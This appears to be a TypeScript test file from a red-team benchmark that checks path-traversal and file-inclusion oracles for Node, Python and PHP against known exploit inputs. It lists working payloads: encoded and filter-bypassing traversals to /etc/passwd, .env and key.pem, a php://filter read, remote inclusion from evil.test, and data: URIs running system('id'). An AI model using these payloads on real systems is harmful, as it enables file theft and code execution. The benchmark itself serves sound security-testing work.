import { pathGrammar } from '../../bench/redteam/grammar/path.ts';
import { type FileOracle, nodeFiles } from '../../bench/redteam/oracle/files/node.ts';
import { phpFiles, phpInclude } from '../../bench/redteam/oracle/files/php.ts';
import { pythonFiles } from '../../bench/redteam/oracle/files/python.ts';
import { addressRewriters, segmentRewriters } from '../../bench/redteam/rewrite/path.ts';
import { type Exploits, testOracle, testRewriters } from './laws.ts';

const up = '../'.repeat(12);
const passwd = [[`${up}etc/passwd`]];
const encoded = [[`${up}etc/passwd`.replaceAll('../', '%2e%2e%2f')]];
const sibling = [['../files-private/key.pem']];
const nested = [[`${up}etc/passwd`.replaceAll('../', '....//')]];

const known: readonly (readonly [FileOracle, Exploits])[] = [
  [
    nodeFiles,
    {
      'path.join': passwd,
      'root + value': passwd,
      'root + value + ending': [['../private/report']],
      'word before the value': [[`x/${up}etc/passwd`]],
      'folder in the middle': [['../private']],
      'path.resolve': [...passwd, ['/etc/passwd']],
      'decoded once': encoded,
      'decoded twice': [[`${up}etc/passwd`.replaceAll('/', '%252f')]],
      'first ../ removed': passwd,
      'each ../ removed once': nested,
      'begins with the root': sibling,
      'backslashes made slashes': [[`${up}etc/passwd`.replaceAll('/', '\\')]],
      'normalised after the check': [[`${up}etc/passwd`.replaceAll('../', '．．/')]],
      'control characters removed after the check': [
        [`${up}etc/passwd`.replaceAll('../', '.\x01./')],
      ],
      'file URL': [...passwd, ['file:///etc/passwd'], ['/etc/passwd']],
      'static server': [...passwd, ['%2e%2e/.env']],
    },
  ],
  [
    pythonFiles,
    {
      'os.path.join': [...passwd, ['/etc/passwd']],
      'format string': passwd,
      'format string and ending': [['../private/notes']],
      pathlib: [...passwd, ['/etc/passwd']],
      unquote: encoded,
      'each ../ removed': nested,
      'leading slashes removed': passwd,
      commonprefix: sibling,
      'urlopen of a file URL': encoded,
    },
  ],
  [
    phpFiles,
    {
      include: passwd,
      'include with ending': [['../private/panel']],
      readfile: passwd,
      'file_get_contents, whole': [
        ...passwd,
        ['php://filter/convert.base64-encode/resource=/etc/passwd'],
      ],
      'each ../ removed': nested,
      urldecode: encoded,
      'fopen in a folder': passwd,
    },
  ],
  [
    phpInclude,
    {
      'include, whole': [['http://evil.test/x.txt'], ["data:,<?php system('id');"], ...passwd],
      'include, whole, with ending': [['http://evil.test/x?'], ['../shop/private/panel']],
      'include_once, http refused': [["data:,<?php system('id');"], ['HTTPS://evil.test/x']],
      'require of a theme': [['ftp://evil.test/x'], ['private']],
    },
  ],
];

for (const [oracle, exploits] of known) testOracle(oracle, exploits);

testRewriters(nodeFiles, pathGrammar, segmentRewriters);
testRewriters(pythonFiles, pathGrammar, []);
testRewriters(phpFiles, pathGrammar, []);
testRewriters(phpInclude, pathGrammar, addressRewriters);
